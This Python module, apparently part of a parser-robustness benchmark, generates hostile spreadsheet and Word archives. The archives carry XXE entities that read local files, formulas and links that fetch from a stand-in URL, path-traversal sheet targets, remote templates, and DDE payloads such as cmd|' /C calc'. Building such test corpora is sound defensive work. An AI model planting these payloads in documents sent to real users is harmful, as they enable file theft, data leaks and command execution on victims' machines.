"""Workbooks and documents that are made to lead a trusting reader elsewhere."""

import io
import stat
import zipfile
from collections.abc import Mapping

from benchmarks.hostile_texts import Elsewhere, Files


def pack(parts: Mapping[str, str | bytes], *, links: Mapping[str, str] | None = None) -> bytes:
    """Put parts in an archive, and links as Unix has them."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        for name, target in (links or {}).items():
            info = zipfile.ZipInfo(name)
            info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, target)
    return file.getvalue()


OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def relate(*relations: tuple[str, str, bool]) -> str:
    """Write the relations of a part: a kind, a target and whether it is outside."""
    listed = "".join(
        f'<Relationship Id="rId{i}" Type="{OFFICE}/{kind}" Target="{target}"'
        + (' TargetMode="External"/>' if is_outside else "/>")
        for i, (kind, target, is_outside) in enumerate(relations, start=1)
    )
    return f'<Relationships xmlns="{RELATIONS}">{listed}</Relationships>'


def sheet_of(*cells: str) -> str:
    """Write a sheet of a heading and a cell below it, and what else is given."""
    rows = f'<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row><row r="2">{"".join(cells)}</row>'
    return f'<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData></worksheet>'


SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
BOOK = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/xl/workbook.xml" ContentType="{SHEET_TYPE}"/></Types>',
    "_rels/.rels": relate(("officeDocument", "xl/workbook.xml", False)),
    "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets>'
    '<sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": relate(
        ("worksheet", "worksheets/sheet1.xml", False), ("sharedStrings", "sharedStrings.xml", False)
    ),
    "xl/sharedStrings.xml": f'<sst xmlns="{SHEET}"><si><t>a</t></si></sst>',
    "xl/worksheets/sheet1.xml": sheet_of('<c r="A2" t="s"><v>0</v></c>'),
}
"""The parts of a book that leads nowhere."""

Changes = Mapping[str, Mapping[str, str]]
"""By the name of a trick, the parts of `BOOK` that are others, or more."""


def name_in_excel(to: Elsewhere) -> Files:
    """Parts that say where other parts are, and formulas that fetch."""
    tricks = (name_entities, link_books, link_from_sheet, place_sheets, write_formulas)
    return {name: pack({**BOOK, **part}) for trick in tricks for name, part in trick(to).items()}


def name_entities(to: Elsewhere) -> Changes:
    """Let a part of a book hold what lies in another file."""
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{to.other}">]>'
    book, texts, relations = "xl/workbook.xml", "xl/sharedStrings.xml", "xl/_rels/workbook.xml.rels"
    cell = sheet_of('<c r="A2" t="inlineStr"><is><t>&e;</t></is></c>')
    return {
        "entity in the book": {book: entity + BOOK[book].replace('name="A"', 'name="&e;"')},
        "entity in the sheet": {"xl/worksheets/sheet1.xml": entity + cell},
        "entity in the texts": {texts: entity + BOOK[texts].replace("<t>a", "<t>&e;")},
        "entity in the relations": {relations: entity + BOOK[relations].replace("worksheets/sheet1.xml", "&e;")},
        "entity in the types": {"[Content_Types].xml": entity + BOOK["[Content_Types].xml"]},
    }


def link_books(to: Elsewhere) -> Changes:
    """Let a book take its figures from another, or from an address."""
    return {
        "link to another book": {
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{SHEET}" xmlns:r="{OFFICE}">'
            '<externalBook r:id="rId1"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": relate(("externalLinkPath", f"file://{to.other}", True)),
        },
        "connection": {
            "xl/connections.xml": f'<connections xmlns="{SHEET}"><connection id="1" type="4" refreshOnLoad="1">'
            f'<webPr url="{to.url}/a"/></connection></connections>'
        },
    }


def link_from_sheet(to: Elsewhere) -> Changes:
    """Let a sheet lead to an address."""
    own = "xl/worksheets/_rels/sheet1.xml.rels"
    return {
        "link in a cell": {own: relate(("hyperlink", f"{to.url}/a", True))},
        "picture": {own: relate(("image", f"{to.url}/a.png", True))},
    }


def place_sheets(to: Elsewhere) -> Changes:
    """Say that a book's sheet lies elsewhere."""
    places = ((f"file://{to.other}", True), (f"../../../../../..{to.other}", False), (f"{to.url}/a.xml", True))
    return {
        f"sheet elsewhere ({number})": {"xl/_rels/workbook.xml.rels": relate(("worksheet", target, is_outside))}
        for number, (target, is_outside) in enumerate(places, start=1)
    }


def write_formulas(to: Elsewhere) -> Changes:
    """Formulas that a spreadsheet program would fetch by, or start a program by."""
    formulas = (
        f'WEBSERVICE("{to.url}/a")',
        f'HYPERLINK("{to.url}/a","a")',
        "cmd|' /C calc'!A0",
        f"'[{to.other}]A'!A1",
        f'IMAGE("{to.url}/a.png")',
        f'RTD("a","127.0.0.1:{to.port}","b")',
    )
    return {
        f"formula ({number})": {"xl/worksheets/sheet1.xml": sheet_of(f'<c r="A2"><f>{formula}</f><v>1</v></c>')}
        for number, formula in enumerate(formulas, start=1)
    }


ODF = "urn:oasis:names:tc:opendocument:xmlns:"
ODF_SPACES = " ".join(f'xmlns:{name}="{ODF}{name}:1.0"' for name in ("office", "table", "text", "draw"))
ODF_CELL = '<table:table-cell office:value-type="string"><text:p>%s</text:p></table:table-cell>'
ODF_FORMULA = '<table:table-cell office:value-type="string" table:formula="{}"><text:p>a</text:p></table:table-cell>'


def write_opendocument(cell: str, *, before: str = "", more: str = "") -> bytes:
    """Write a sheet of a heading and a cell below it, and what else is given."""
    rows = f"<table:table-row>{ODF_CELL % 'a'}</table:table-row><table:table-row>{cell}</table:table-row>"
    content = (
        f'{before}<office:document-content {ODF_SPACES} xmlns:xlink="http://www.w3.org/1999/xlink"><office:body>'
        f'<office:spreadsheet><table:table table:name="A">{more}{rows}</table:table></office:spreadsheet></office:body>'
        "</office:document-content>"
    )
    return pack(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "META-INF/manifest.xml": f'<m:manifest xmlns:m="{ODF}manifest:1.0"/>',
            "content.xml": content,
        }
    )


def name_in_opendocument(to: Elsewhere) -> Files:
    """Sheets that say where their rows are."""
    write, text, formula = write_opendocument, ODF_CELL, ODF_FORMULA
    return {
        "entity": write(text % "&e;", before=f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{to.other}">]>'),
        "entity of an address": write(text % "&e;", before=f'<!DOCTYPE x [<!ENTITY e SYSTEM "{to.url}/e">]>'),
        "rows elsewhere": write(text % "b", more=f'<table:table-source xlink:href="{to.url}/a.ods"/>'),
        "rows in a file": write(text % "b", more=f'<table:table-source xlink:href="file://{to.other}"/>'),
        "picture": write(text % f'<draw:image xlink:href="{to.url}/a.png"/>b'),
        "formula": write(formula.format(f"of:=WEBSERVICE(&quot;{to.url}/a&quot;)")),
        "formula of a file": write(formula.format(f"of:='file://{to.other}'#A.A1")),
        "dde": write(formula.format(f"of:=DDE(&quot;soffice&quot;;&quot;{to.other}&quot;;&quot;a&quot;)")),
    }


WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
WORD_TEXT = "<w:r><w:t>%s</w:t></w:r>"
WORD_FIELD = '<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{}</w:instrText><w:t>b</w:t></w:r>'


def write_document(inner: str, *, before: str = "", relations: str = "") -> bytes:
    """Write a document of a table: a heading, what is given below it, and what the document leads to."""
    rows = "".join(f"<w:tr><w:tc><w:p>{text}</w:p></w:tc></w:tr>" for text in (WORD_TEXT % "a", inner))
    body = f"<w:body><w:tbl>{rows}</w:tbl></w:body>"
    document = f'{before}<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}">{body}</w:document>'
    beside = {"word/_rels/document.xml.rels": relations} if relations else {}
    return pack({"word/document.xml": document, **beside})


def lead(kind: str, target: str) -> bytes:
    """Write a document that leads to something."""
    return write_document(WORD_TEXT % "b", relations=relate((kind, target, True)))


def name_in_word(to: Elsewhere) -> Files:
    """Documents that fetch their template, their pictures or their text."""
    write, text, field = write_document, WORD_TEXT, WORD_FIELD
    return {
        "entity": write(text % "&e;", before=f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{to.other}">]>'),
        "entity of a parameter": write(text % "b", before=f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{to.url}/p">%p;]>'),
        "template": lead("attachedTemplate", f"{to.url}/a.dotm"),
        "picture": lead("image", f"{to.url}/a.png"),
        "part of a document": lead("subDocument", f"file://{to.other}"),
        "object": lead("oleObject", f"file://{to.other}"),
        "text in a field": write(field.format(f'INCLUDETEXT "{to.other}"')),
        "dde in a field": write(field.format(f'DDEAUTO c "{to.other}" a')),
        "chunk": write('<w:r><w:t>b</w:t></w:r><w:altChunk r:id="rId1"/>'),
    }
